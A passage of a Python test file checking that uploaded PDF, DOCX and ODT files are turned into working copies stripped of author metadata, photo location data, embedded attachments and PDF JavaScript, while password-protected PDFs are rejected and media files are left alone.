    working_copy = check_file(upload("form.pdf", output.getvalue())).working_copy

    annotations = PdfReader(io.BytesIO(working_copy)).pages[0]["/Annots"]
    assert [annotation.get_object()["/Subtype"] for annotation in annotations] == ["/Widget"]
    assert b"attached secret" not in working_copy
    assert b"app.alert" not in working_copy


def test_its_pdf_working_copy_of_an_owner_password_pdf_opens_without_password():
    writer = PdfWriter()
    writer.add_blank_page(100, 100)
    writer.add_metadata({"/Author": PERSON})
    writer.encrypt(user_password="", owner_password="owner", algorithm="AES-128")
    output = io.BytesIO()
    writer.write(output)

    working_copy = check_file(upload("decision.pdf", output.getvalue())).working_copy

    reader = PdfReader(io.BytesIO(working_copy))
    assert not reader.is_encrypted
    assert not reader.metadata


def test_it_rejects_a_pdf_that_needs_a_password_to_open():
    writer = PdfWriter()
    writer.add_blank_page(100, 100)
    writer.encrypt(user_password="secret", owner_password="owner", algorithm="AES-128")
    output = io.BytesIO()
    writer.write(output)

    with pytest.raises(AttachmentRejected) as excinfo:
        check_file(upload("decision.pdf", output.getvalue()))

    assert rejection(excinfo)[0] == "encrypted"


def test_its_docx_working_copy_has_no_authors_company_or_photo_location():
    original = docx_bytes()

    working_copy = check_file(upload("statement.docx", original)).working_copy

    everything = all_entries(working_copy)
    for trace in (PERSON.encode(), b"Secret Shelter NGO", b"Olga", b"SpyPhone", b"Exif", b'w:initials="IP"'):
        assert trace not in everything
    assert b"Arrested on 3 May" in entry(working_copy, "word/document.xml")
    assert b"<w:ins" in entry(working_copy, "word/document.xml")  # the tracked change stays, unsigned
    photo = Image.open(io.BytesIO(entry(working_copy, "word/media/image1.jpeg")))
    assert not photo.getexif()


def test_its_docx_working_copy_is_still_a_docx():
    working_copy = check_file(upload("statement.docx", docx_bytes())).working_copy

    assert check_file(upload("statement.docx", working_copy)).kind == "docx"
    with zipfile.ZipFile(io.BytesIO(working_copy)) as archive:
        assert {info.date_time for info in archive.infolist()} == {(1980, 1, 1, 0, 0, 0)}


def test_its_odt_working_copy_has_no_authors_or_photo_location():
    original = odt_bytes()

    working_copy = check_file(upload("statement.odt", original)).working_copy

    assert PERSON.encode() not in all_entries(working_copy)
    assert b"SpyPhone" not in all_entries(working_copy)
    assert b'office:version="1.3"' in entry(working_copy, "meta.xml")
    assert b"Arrested on 3 May" in entry(working_copy, "content.xml")
    with zipfile.ZipFile(io.BytesIO(working_copy)) as archive:
        first = archive.infolist()[0]
    # OpenDocument readers need "mimetype" first and uncompressed.
    assert first.filename == "mimetype"
    assert first.compress_type == zipfile.ZIP_STORED
    assert check_file(upload("statement.odt", working_copy)).kind == "odt"


@pytest.mark.parametrize(
    ("name", "data"),
    [("notes.txt", b"hello\n"), ("call.mp3", ID3_TAG + MP3_FRAME), ("arrest.mp4", mp4_bytes())],
)
def test_it_makes_no_working_copy_of_text_audio_or_video(name, data):
    assert check_file(upload(name, data)).working_copy is None
